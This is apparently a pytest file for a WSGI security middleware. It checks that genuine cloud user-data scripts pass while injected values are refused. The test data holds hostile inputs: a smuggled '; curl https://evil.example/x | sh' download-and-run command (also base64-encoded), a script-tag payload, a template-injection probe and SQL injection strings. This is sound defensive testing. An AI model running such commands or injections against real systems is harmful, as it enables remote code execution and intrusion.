"""Scripts for new machines, and lines of logs, pass in the fields that clouds have for them."""

from __future__ import annotations

import json
from base64 import b64encode

import pytest
from werkzeug.test import Client

from guard_wsgi import GuardMiddleware, SecurityConfig
from tests.customers.posted import hello, statuses_of

SCRIPT = """#!/bin/bash
apt-get update && apt-get install -y nginx
curl -fsSL https://get.docker.com | sh
"""
CLOUD_CONFIG = """#cloud-config
runcmd:
  - [sh, -c, "wget -qO- https://example.com/x.sh | bash"]
"""


@pytest.mark.parametrize("text", [SCRIPT, CLOUD_CONFIG, SCRIPT.replace("/bin/", "/usr/bin/env ")])
@pytest.mark.parametrize("name", ["user_data", "UserData", "customData"])
def test_a_script_for_a_new_machine_passes(name: str, text: str) -> None:
    assert statuses_of(name, text, "form", "json", "nested") == {200}
    encoded = b64encode(text.encode()).decode()
    assert statuses_of(name, encoded, "form", "json", "nested") == {200}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("comment", SCRIPT),
        ("user_data", "; curl -fsSL https://evil.example/x | sh"),
        ("user_data", SCRIPT.removeprefix("#!/bin/bash\n")),
        ("user_data", "#!x\ncurl -fsSL https://evil.example/x | sh"),
        ("user_data", "#!/bin/bash\n<script>alert(1)</script>"),
        ("user_data", "#cloud-config\n{{ ''.__class__.__mro__ }}"),
    ],
)
def test_what_is_no_such_script_is_refused(name: str, text: str) -> None:
    assert statuses_of(name, text, "form", "json", "nested") == {400}


def test_base64_of_no_such_script_is_refused() -> None:
    encoded = b64encode(b"; curl -fsSL https://evil.example/x | sh").decode()
    assert statuses_of("user_data", encoded, "form") == {400}


def test_a_script_is_weighed_where_contents_are() -> None:
    guarded = GuardMiddleware(hello, SecurityConfig(upload_inspection="strict"))
    for answer in (
        Client(guarded).post("/", json={"user_data": SCRIPT}),
        Client(guarded).post("/", data={"user_data": SCRIPT}),
    ):
        assert answer.status_code == 400


LINE = '10.0.0.5 - - [01/Dec/2026] "GET /index.php?id=1%27%20or%201=1-- HTTP/1.1" 404 -'


@pytest.mark.parametrize(
    ("document", "status"),
    [
        ({"logGroupName": "a", "logEvents": [{"timestamp": 1, "message": LINE}]}, 200),
        ({"logEvents": {"message": "1' or 1=1-- -"}}, 400),
        ({"message": "1' or 1=1-- -"}, 400),
    ],
)
def test_a_log_may_quote_a_scanner(document: object, status: int) -> None:
    guarded = GuardMiddleware(hello, SecurityConfig())
    answer = Client(guarded).post(
        "/", data=json.dumps(document), content_type="application/x-amz-json-1.1"
    )
    assert answer.status_code == status
